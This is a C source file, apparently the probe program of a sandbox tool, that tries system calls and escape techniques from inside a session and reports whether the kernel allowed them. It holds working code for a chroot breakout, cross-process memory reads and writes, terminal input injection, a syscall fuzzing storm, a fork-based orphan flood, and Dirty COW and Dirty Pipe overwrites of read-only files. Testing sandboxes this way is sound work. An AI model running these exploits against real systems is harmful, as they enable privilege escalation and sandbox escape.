/* Runs inside a session, for `sandlot attack` and for the tests: it tries one system call, or a few words that need more
 * than one, and says what the kernel answered: the name of the error, or "reached". Numbers are arguments as they
 * stand, @text is a pointer to text, `zeros` to 64 KiB of zeros. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const struct {
    const char *name;
    long number;
} calls[] = {
#include "names.h"
    /* What headers of Linux 6.1 do not know yet; these numbers are the same everywhere. */
    {"cachestat", 451}, {"fchmodat2", 452}, {"map_shadow_stack", 453}, {"futex_wake", 454}, {"futex_wait", 455},
    {"futex_requeue", 456}, {"statmount", 457}, {"listmount", 458}, {"lsm_get_self_attr", 459},
    {"lsm_set_self_attr", 460}, {"lsm_list_modules", 461}, {"mseal", 462}, {"setxattrat", 463}, {"getxattrat", 464},
    {"listxattrat", 465}, {"removexattrat", 466}, {"open_tree_attr", 467}, {"file_getattr", 468}, {"file_setattr", 469},
};

static char zeros[65536] __attribute__((aligned(4096)));

static int tell(long result) {
    puts(result < 0 ? strerrorname_np(errno) : "reached");
    return result < 0;
}

static long number_of(const char *name) {
    for (size_t i = 0; i < sizeof calls / sizeof *calls; i++)
        if (strcmp(calls[i].name, name) == 0) return calls[i].number;
    fprintf(stderr, "%s: no such call\n", name);
    exit(2);
}

static uint64_t argument(const char *text) {
    if (*text == '@') return (uintptr_t)(text + 1);
    if (strcmp(text, "zeros") == 0) return (uintptr_t)zeros;
    return (uint64_t)strtoll(text, NULL, 0);
}

static int plain(char **words) {
    uint64_t a[6] = {0};
    for (int i = 0; i < 6 && words[1 + i]; i++) a[i] = argument(words[1 + i]);
    return tell(syscall(number_of(words[0]), a[0], a[1], a[2], a[3], a[4], a[5]));
}

/* The child of a clone that went through has done its duty by existing. */
static int cloned(long child) {
    if (child == 0) _exit(0);
    int result = tell(child);
    if (child > 0) waitpid((pid_t)child, NULL, __WALL);
    return result;
}

static int old_clone(uint64_t flags) { return cloned(syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0)); }

static int new_clone(uint64_t flags) {
    uint64_t arguments[11] = {flags, 0, 0, 0, SIGCHLD};
    return cloned(syscall(SYS_clone3, arguments, sizeof arguments));
}

static int read_memory(pid_t pid) {
    struct iovec here = {zeros, 16}, there = {(void *)0x400000, 16};
    return tell(process_vm_readv(pid, &here, 1, &there, 1, 0));
}

static int write_memory(pid_t pid) {
    struct iovec here = {zeros, 16}, there = {(void *)0x400000, 16};
    return tell(process_vm_writev(pid, &here, 1, &there, 1, 0));
}

/* The old way out of a chroot: keep a directory open, move the root below it, and climb. */
static int leave_chroot(void) {
    struct stat before, after;
    int top = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/workspace/cell", 0755);
    if (top < 0 || stat("/", &before) < 0 || chroot("/workspace/cell") < 0 || fchdir(top) < 0) return tell(-1);
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0) return tell(-1);
    if (chroot(".") < 0 || stat("/", &after) < 0) return tell(-1);
    int same = before.st_dev == after.st_dev && before.st_ino == after.st_ino;
    puts(same && access("/workspace/cell", F_OK) == 0 ? "own root" : "reached");
    return 0;
}

static int type_into_terminal(unsigned long request) {
    char letter = '\n';
    return tell(ioctl(0, request, &letter));
}

/* pidfd_open is allowed; what the descriptor gives of pid 1 is another matter. */
static int through_pidfd(pid_t pid, unsigned long request) {
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    return fd < 0 ? tell(-1) : tell(ioctl(fd, request, 0));
}

/* The 32-bit entry; where the kernel has none it ends the process, hence the fork. */
static int old_entry(long number) {
    pid_t child = fork();
    if (child == 0) {
        long result = number;
#if defined(__x86_64__)
        __asm__ volatile("int $0x80" : "+a"(result) : "b"(0), "c"(0), "d"(0) : "memory", "r8", "r9", "r10", "r11");
#endif
        _exit(result < 0 ? (int)-result : 0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) return puts("no such entry") < 0;
    errno = WEXITSTATUS(status);
    return tell(errno ? -1 : 0);
}

static int sweep(char **numbers) {
    for (; *numbers; numbers++) {
        errno = 0;
        long number = **numbers >= '0' && **numbers <= '9' ? strtol(*numbers, NULL, 0) : number_of(*numbers);
        long result = syscall(number, 0, 0, 0, 0, 0, 0);
        printf("%s %s\n", *numbers, result < 0 ? strerrorname_np(errno) : "reached");
        fflush(stdout);
    }
    return 0;
}

/* Processes whose parent has ended before them: pid 1 gets them all. */
static int orphans(long count) {
    for (long i = 0; i < count; i++) {
        pid_t child = fork();
        if (child < 0) return tell(-1);
        if (child == 0) {
            (void)!fork();
            _exit(0);
        }
        waitpid(child, NULL, 0);
    }
    return puts("done") < 0;
}

static int descriptors(void) {
    for (int fd = 0; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0) printf("%d\n", fd);
    return 0;
}

/* ---- every call there is ------------------------------------------------------------------------------------------ */

enum { NUMBERS = 480, BLOCKED_MS = 40, STUCK_MS = 10000 };

/* These would end or double the one who asks, or wait for the disk of the whole machine. */
static const char *const left_out[] = {"exit", "exit_group", "fork", "vfork", "clone", "clone3", "sync"};

static bool is_left_out(long number) {
    for (size_t i = 0; i < sizeof left_out / sizeof *left_out; i++)
        for (size_t k = 0; k < sizeof calls / sizeof *calls; k++)
            if (calls[k].number == number && strcmp(calls[k].name, left_out[i]) == 0) return true;
    return false;
}

/* How one call in a process of its own ends: 0 by itself, 1 when it had to be ended, 2 when even that did not help. */
static int one_of_storm(long number, uint64_t with) {
    pid_t child = fork();
    if (child < 0) return 2;
    if (child == 0) {
        setsid();
        syscall(number, with, with, with, with, with, with);
        _exit(0);
    }
    int fd = (int)syscall(SYS_pidfd_open, child, 0), blocked = 0;
    struct pollfd wait = {.fd = fd, .events = POLLIN};
    if (fd < 0 || poll(&wait, 1, BLOCKED_MS) == 0) {
        blocked = 1;
        kill(child, SIGKILL);
        if (fd >= 0 && poll(&wait, 1, STUCK_MS) == 0) blocked = 2;
    }
    if (fd >= 0) close(fd);
    if (blocked < 2) waitpid(child, NULL, 0);
    return blocked;
}

/* Zeros, ones, an address that nothing is mapped at, and one of the kernel. */
static int storm(void) {
    static const uint64_t arguments[] = {0, ~0ull, 0x1000, 0xffffffff81000000};
    int tried = 0, ended[3] = {0};
    for (long number = 0; number <= NUMBERS; number++)
        for (size_t i = 0; i < 4 && !is_left_out(number); i++, tried++) {
            int how = one_of_storm(number, arguments[i]);
            ended[how]++;
            if (how == 2) printf("stuck: %ld\n", number);
        }
    printf("tried %d, by itself %d, ended %d, stuck %d\n", tried, ended[0], ended[1], ended[2]);
    return ended[2] != 0;
}

/* ---- files that may only be read ----------------------------------------------------------------------------------- */

static char *mapped;
static volatile bool racing = true;

static void *forget(void *unused) {
    while (racing) madvise(mapped, 4096, MADV_DONTNEED);
    return unused;
}

static int tell_byte(int fd, off_t at) {
    char now = 0;
    if (pread(fd, &now, 1, at) != 1) return tell(-1);
    puts(now == 'X' ? "reached" : "unchanged");
    return 0;
}

/* Dirty COW: a write to a private page races with the page being given up, and lands in the file. */
static int dirty_cow(const char *path, long rounds) {
    int fd = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    if (fd < 0 || memory < 0) return tell(-1);
    mapped = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    pthread_t other;
    if (mapped == MAP_FAILED || pthread_create(&other, NULL, forget, NULL) != 0) return tell(-1);
    for (long i = 0; i < rounds; i++) (void)!pwrite(memory, "X", 1, (off_t)(uintptr_t)mapped);
    racing = false;
    pthread_join(other, NULL);
    return tell_byte(fd, 0);
}

/* Dirty Pipe: a pipe whose buffers still say that they may be added to is given a page of a file. */
static int dirty_pipe(const char *path) {
    int fd = open(path, O_RDONLY), ends[2];
    if (fd < 0 || pipe(ends) < 0) return tell(-1);
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= 4096) (void)!write(ends[1], zeros, 4096);
    for (int left = size; left > 0; left -= 4096) (void)!read(ends[0], zeros + 4096, 4096);
    loff_t from = 0;
    /* One byte, so that the next write would go on behind it in the same page. */
    if (splice(fd, &from, ends[1], NULL, 1, 0) != 1 || write(ends[1], "XXXX", 4) != 4) return tell(-1);
    return tell_byte(fd, 1);
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *word = argv[1];
    long value = argc > 2 ? strtol(argv[2], NULL, 0) : 0;
    unsigned long request = argc > 3 ? strtoul(argv[3], NULL, 0) : 0;
    if (strcmp(word, "old-clone") == 0) return old_clone((uint64_t)value);
    if (strcmp(word, "new-clone") == 0) return new_clone((uint64_t)value);
    if (strcmp(word, "read-memory") == 0) return read_memory((pid_t)value);
    if (strcmp(word, "write-memory") == 0) return write_memory((pid_t)value);
    if (strcmp(word, "leave-chroot") == 0) return leave_chroot();
    if (strcmp(word, "terminal") == 0) return type_into_terminal((unsigned long)value);
    if (strcmp(word, "pidfd") == 0) return through_pidfd((pid_t)value, request);
    if (strcmp(word, "old-entry") == 0) return old_entry(value);
    if (strcmp(word, "descriptors") == 0) return descriptors();
    if (strcmp(word, "sweep") == 0) return sweep(argv + 2);
    if (strcmp(word, "storm") == 0) return storm();
    if (strcmp(word, "orphans") == 0) return orphans(value);
    if (strcmp(word, "dirty-cow") == 0 && argc > 3) return dirty_cow(argv[2], (long)request);
    if (strcmp(word, "dirty-pipe") == 0 && argc > 2) return dirty_pipe(argv[2]);
    return plain(argv + 1);
}
